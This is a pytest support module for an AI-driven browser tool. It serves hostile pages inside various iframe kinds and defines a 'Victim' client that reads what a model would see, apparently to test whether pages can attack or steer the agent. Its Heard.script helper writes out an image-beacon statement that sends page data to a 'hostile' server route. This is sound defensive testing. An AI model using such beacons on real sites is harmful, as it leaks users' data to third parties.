"""Pages with the hostile script, and what the web server has heard from them."""

import html
import itertools
import json
import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anyio
import mcp_types as types
import pytest
from mcp import Client
from mcp.server.lowlevel import Server
from playwright.async_api import Frame

from mcp_browser.browser.session import BrowserSession
from mcp_browser.dom.cdp import send
from tests.support.site import Reply, Request, Site
from tests.support.waiting import until

SCRIPT = Path(__file__).with_name("hostile.js").read_text("utf-8").strip().removesuffix(";")
ELEMENT = re.compile(r'\[(\d+)\] (\S+) "((?:[^"\\]|\\.)*)"')
LONGEST_CALL = 30.0
"""In which each call ends, seconds: its own limit in these tests, and what comes around it."""

_numbers = itertools.count(1)


@dataclass
class Heard:
    """What pages have reported to the hostile web server."""

    url: str
    whats: list[str] = field(default_factory=list[str])

    def of(self, start: str) -> list[str]:
        return [what for what in self.whats if what.startswith(start)]

    async def until(self, what: str) -> None:
        await until(lambda: what in self.whats, seconds=10)

    def script(self, expression: str) -> str:
        """A statement that reports what an expression gives."""
        # A picture of the same address is not asked for twice.
        address = f"{self.url}?what=${{encodeURIComponent({expression})}}&n=${{Math.random()}}"
        return f"(new Image).src = `{address}`"


def hearing(site: Site) -> Heard:
    """Let a site hear what one test's pages report."""
    path = f"/heard/{next(_numbers)}"
    heard = Heard(site.url + path)

    def note(request: Request) -> Reply:
        heard.whats.append(request.first("what"))
        return Reply(b"", status=204)

    site.route(path, note)
    return heard


def kit(heard: Heard, **options: Any) -> str:
    """The hostile script as an element, with options that hostile.js reads."""
    given = in_script({"report": heard.url, **options})
    return f"<script>{SCRIPT}({given})</script>"


def in_script(value: object) -> str:
    """JSON that may stand in a script in HTML."""
    return json.dumps(value).replace("<", "\\u003c")


def few(values: Iterable[Any], quick: Collection[Any], *, night: bool = False) -> list[Any]:
    """Cases of which all but the quick ones are slow, or left to the nightly run."""
    marks = [pytest.mark.slow, *[pytest.mark.nightly] * night]
    return [value if value in quick else pytest.param(value, marks=marks) for value in values]


KINDS = ("same process", "cross-site", "srcdoc", "data", "blank", "blob", "sandboxed", "nested")
"""Kinds of frames."""


def framed(site: Site, kind: str, body: str, *, id: str = "frame") -> str:
    """A frame of a kind that holds a body."""
    if kind == "nested":
        within = framed(site, "srcdoc", framed(site, "cross-site", body, id="inner"), id="middle")
        return framed(site, "same process", within, id=id)
    document = f"<!doctype html><title>Inner</title>{body}"
    packed, inline = in_script(document), f'srcdoc="{html.escape(document)}"'
    path = site.page(body).removeprefix(site.url)
    holds = {
        "same process": f"src='{site.url}{path}'",
        "cross-site": f"src='{site.other}{path}'",
        "srcdoc": inline,
        "sandboxed": f'sandbox="allow-scripts" {inline}',
        "data": f"src='data:text/html,{quote(document)}'",
    }.get(kind, "")
    frame = f"document.getElementById('{id}')"
    script = {
        "blob": f"{frame}.src = URL.createObjectURL(new Blob([{packed}], {{type: 'text/html'}}))",
        # Its document stays the blank one; scripts run where they are put in as elements.
        "blank": f"(() => {{ const inner = {frame}.contentDocument; inner.body.innerHTML = {packed};"
        "for (const old of [...inner.querySelectorAll('script')]) {"
        "const script = inner.createElement('script'); script.textContent = old.textContent;"
        "old.replaceWith(script) } })()",
    }.get(kind)
    assert holds or script, kind
    tag = f"<iframe id={id} title={id} width=500 height=320 {holds}></iframe>"
    return tag + (f"<script>{script}</script>" if script else "")


class Victim:
    """A client of a server whose browser meets hostile pages; it reads what a model would."""

    def __init__(self, server: Server[Any], session: BrowserSession) -> None:
        self.server = server
        self.session = session
        self.told = ""

    async def call(self, name: str, /, **arguments: Any) -> str:
        """What a tool says, errors too; never that of the server's own fault, and in time."""
        with anyio.fail_after(LONGEST_CALL):
            async with Client(self.server, mode="legacy") as client:
                result = await client.call_tool(name, arguments)
        assert isinstance(result, types.CallToolResult)
        text = "\n".join(part.text for part in result.content if isinstance(part, types.TextContent))
        assert "Internal error" not in text, (name, arguments, text)
        self.told += f"\n{text}"
        self.failed = bool(result.is_error)
        return text

    async def open(self, url: str) -> str:
        """Open an address, and read the page once its frames have come."""
        await self.call("go_to_url", url=url)
        return await self.call("get_state")

    def index(self, name: str) -> int:
        """The index last given for the element of that name."""
        found = [int(match[1]) for match in ELEMENT.finditer(self.told) if match[3] == name]
        assert found, f"no {name!r} in {self.told}"
        return found[-1]

    async def read(self, script: str, frame: Frame | None = None) -> Any:
        """What a script gives in a world that the page cannot reach."""
        page = self.session.current_tab.page
        target = await page.context.new_cdp_session(frame or page)
        tree = await send(target, "Page.getFrameTree")
        frame_id = tree["frameTree"]["frame"]["id"]
        world = await send(target, "Page.createIsolatedWorld", frameId=frame_id, worldName="witness")
        told = await send(
            target,
            "Runtime.evaluate",
            expression=script,
            contextId=world["executionContextId"],
            returnByValue=True,
            awaitPromise=True,
        )
        await target.detach()
        return told["result"].get("value")

    async def values(self) -> dict[str, str]:
        """What each field of the page's main document holds."""
        return await self.read(
            "Object.fromEntries(Array.from(document.querySelectorAll('input'), f => [f.id, f.value]))"
        )

    async def lives(self, site: Site) -> None:
        """Go to a calm page and work it."""
        await self.open(site.page("<button onclick=\"this.textContent = 'Done'\">Calm</button>"))
        assert "Done" in await self.call("click_element", index=self.index("Calm"))
